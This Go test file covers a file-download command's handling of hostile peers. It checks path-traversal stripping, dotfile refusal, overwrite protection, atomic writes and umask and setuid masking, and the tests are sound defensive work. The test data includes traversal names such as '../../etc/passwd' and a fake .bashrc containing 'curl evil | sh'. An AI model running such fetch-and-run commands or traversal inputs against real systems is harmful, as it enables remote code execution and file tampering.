package main

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"runtime"
	"testing"

	"github.com/stretchr/testify/require"
)

func TestResolveGetTarget(t *testing.T) {
	dir := t.TempDir()
	sub := filepath.Join(dir, "sub")
	require.NoError(t, os.Mkdir(sub, 0o755))
	existing := filepath.Join(dir, "existing.txt")
	require.NoError(t, os.WriteFile(existing, []byte("x"), 0o644))

	tests := []struct {
		name     string
		output   string
		original string
		want     string
		wantErr  bool
	}{
		{"cwd", "", "report.pdf", "report.pdf", false},
		{"existing dir", sub, "report.pdf", filepath.Join(sub, "report.pdf"), false},
		{"existing dir trailing slash", sub + "/", "report.pdf", filepath.Join(sub, "report.pdf"), false},
		{"explicit new file", filepath.Join(sub, "mine.pdf"), "report.pdf", filepath.Join(sub, "mine.pdf"), false},
		{"explicit existing file", existing, "report.pdf", existing, false},
		{"explicit file ignores bad original", filepath.Join(sub, "mine"), "..", filepath.Join(sub, "mine"), false},
		{"missing parent", filepath.Join(dir, "nope", "f"), "f", "", true},
		{"missing dir with slash", filepath.Join(dir, "nope") + "/", "f", "", true},
		{"parent is a file", filepath.Join(existing, "f"), "f", "", true},
		{"path in name stripped", sub, "../../etc/passwd", filepath.Join(sub, "passwd"), false},
		{"absolute name stripped", "", "/etc/passwd", "passwd", false},
		{"dot dot name", sub, "..", "", true},
		{"dot name", sub, ".", "", true},
		{"empty name", sub, "", "", true},
		{"slash name", sub, "/", "", true},
		{"control char", sub, "a\nb", "", true},
		{"trailing slash name", sub, "dir/name/", filepath.Join(sub, "name"), false},
		// Hostile peers, point 14: no dotfile lands in a folder unless
		// the user names the file.
		{"dotfile in cwd", "", ".bashrc", "", true},
		{"dotfile into dir", sub, ".profile", "", true},
		{"dotfile behind a path", sub, "../.ssh/.authorized_keys", "", true},
		{"three dots", sub, "...", "", true},
		{"explicit file takes a dotfile", filepath.Join(sub, "bashrc"), ".bashrc", filepath.Join(sub, "bashrc"), false},
		{"dot inside name", sub, "a.b", filepath.Join(sub, "a.b"), false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			target, err := resolveGetTarget(tt.output)
			var got string
			if err == nil {
				got, err = target.path(tt.original)
			}
			if tt.wantErr {
				require.Error(t, err)
				require.Equal(t, exitBadInput, exitCode(err))
				return
			}
			require.NoError(t, err)
			require.Equal(t, tt.want, got)
		})
	}
}

// dirNames lists the names in dir.
func dirNames(t testing.TB, dir string) []string {
	t.Helper()
	ents, err := os.ReadDir(dir)
	require.NoError(t, err)
	var names []string
	for _, e := range ents {
		names = append(names, e.Name())
	}
	return names
}

func TestRunGet(t *testing.T) {
	const content = "the quick brown fox"
	tests := []struct {
		name      string
		opts      getOpts
		existing  string // content of a file already at the target, if any
		failAfter int
		wantCode  int
		want      string // content at the target afterwards
		wantMode  os.FileMode
	}{
		{name: "new file", failAfter: -1, want: content, wantMode: 0o640},
		{name: "refuses existing", existing: "old", failAfter: -1, wantCode: exitOther, want: "old", wantMode: 0o644},
		{name: "force overwrites", opts: getOpts{force: true}, existing: "old", failAfter: -1, want: content, wantMode: 0o640},
		{name: "mid-stream failure leaves nothing", failAfter: 5, wantCode: exitOther},
		{name: "mid-stream failure keeps existing", opts: getOpts{force: true}, existing: "old", failAfter: 5, wantCode: exitOther, want: "old", wantMode: 0o644},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			t.Chdir(dir)
			target := filepath.Join(dir, "fox.txt")
			if tt.existing != "" {
				require.NoError(t, os.WriteFile(target, []byte(tt.existing), 0o644))
			}
			b := newFakeFiles("fox.txt", 0o640, content)
			b.failAfter = tt.failAfter
			var out bytes.Buffer
			err := runGet(context.Background(), b, tt.opts, "bafkfake", &out)
			require.Equal(t, tt.wantCode, exitCode(err), "err: %v", err)

			if tt.want == "" {
				require.Empty(t, dirNames(t, dir))
				return
			}
			require.Equal(t, []string{"fox.txt"}, dirNames(t, dir), "no temporary file is left")
			got, err := os.ReadFile(target)
			require.NoError(t, err)
			require.Equal(t, tt.want, string(got))
			fi, err := os.Stat(target)
			require.NoError(t, err)
			require.Equal(t, tt.wantMode, fi.Mode().Perm())
			if tt.wantCode == 0 {
				require.Equal(t, "saved fox.txt\n", out.String())
			}
		})
	}
}

func TestRunGetIntoDirectory(t *testing.T) {
	dir := t.TempDir()
	b := newFakeFiles("../escape.txt", 0o600, "data")
	var out bytes.Buffer
	require.NoError(t, runGet(context.Background(), b, getOpts{output: dir}, "bafkfake", &out))
	want := filepath.Join(dir, "escape.txt")
	require.Equal(t, "saved "+want+"\n", out.String())
	require.Equal(t, []string{"escape.txt"}, dirNames(t, dir))
	require.NoFileExists(t, filepath.Join(filepath.Dir(dir), "escape.txt"))
}

func TestRunGetRefusesDirectoryTarget(t *testing.T) {
	dir := t.TempDir()
	t.Chdir(dir)
	require.NoError(t, os.Mkdir("fox.txt", 0o755))
	b := newFakeFiles("fox.txt", 0o644, "data")
	err := runGet(context.Background(), b, getOpts{force: true}, "bafkfake", &bytes.Buffer{})
	require.ErrorContains(t, err, "is a directory")
	require.Equal(t, []string{"fox.txt"}, dirNames(t, dir))
}

func TestFileMode(t *testing.T) {
	tests := []struct {
		name string
		in   uint32
		want os.FileMode
	}{
		{"plain", 0o644, 0o644},
		{"executable", 0o755, 0o755},
		{"setuid dropped", uint32(os.ModeSetuid) | 0o755, 0o755},
		{"type bits dropped", uint32(os.ModeDir) | 0o700, 0o700},
		{"none", 0, 0o644},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			require.Equal(t, tt.want, fileMode(tt.in))
		})
	}
}

// TestRunGetRefusesDotfile (hostile peers, point 14): a manifest naming
// ".bashrc" writes nothing into the current directory, with one line of
// bad input that points at -o; with -o NAME the file is saved.
func TestRunGetRefusesDotfile(t *testing.T) {
	dir := t.TempDir()
	t.Chdir(dir)
	b := newFakeFiles(".bashrc", 0o644, "curl evil | sh\n")
	err := runGet(context.Background(), b, getOpts{}, "bafkfake", &bytes.Buffer{})
	require.Equal(t, exitBadInput, exitCode(err), "err: %v", err)
	require.Contains(t, err.Error(), "starts with a dot")
	require.Contains(t, err.Error(), "-o")
	require.NotContains(t, err.Error(), "\n")
	require.Empty(t, dirNames(t, dir))

	var out bytes.Buffer
	require.NoError(t, runGet(context.Background(), b, getOpts{output: "bashrc"}, "bafkfake", &out))
	require.Equal(t, []string{"bashrc"}, dirNames(t, dir))
	require.Equal(t, "saved bashrc\n", out.String())
}

// TestRunGetAppliesUmask (hostile peers, point 14): the recorded mode is
// masked by the umask, and setuid, setgid and sticky never reach the disk.
func TestRunGetAppliesUmask(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("no permission bits on Windows")
	}
	tests := []struct {
		name  string
		mode  uint32
		umask os.FileMode
		want  os.FileMode
	}{
		{"0777 under 022", 0o777, 0o022, 0o755},
		{"0777 under 077", 0o777, 0o077, 0o700},
		{"0640 under 027", 0o640, 0o027, 0o640},
		{"setuid setgid sticky under 022", uint32(os.ModeSetuid|os.ModeSetgid|os.ModeSticky) | 0o777, 0o022, 0o755},
		{"0777 under no umask", 0o777, 0, 0o777},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			b := newFakeFiles("tool", tt.mode, "#!/bin/sh\n")
			require.NoError(t, runGet(context.Background(), b, getOpts{output: dir, umask: tt.umask}, "bafkfake", &bytes.Buffer{}))
			fi, err := os.Stat(filepath.Join(dir, "tool"))
			require.NoError(t, err)
			require.Equal(t, tt.want, fi.Mode()&(os.ModePerm|os.ModeSetuid|os.ModeSetgid|os.ModeSticky))
		})
	}
}
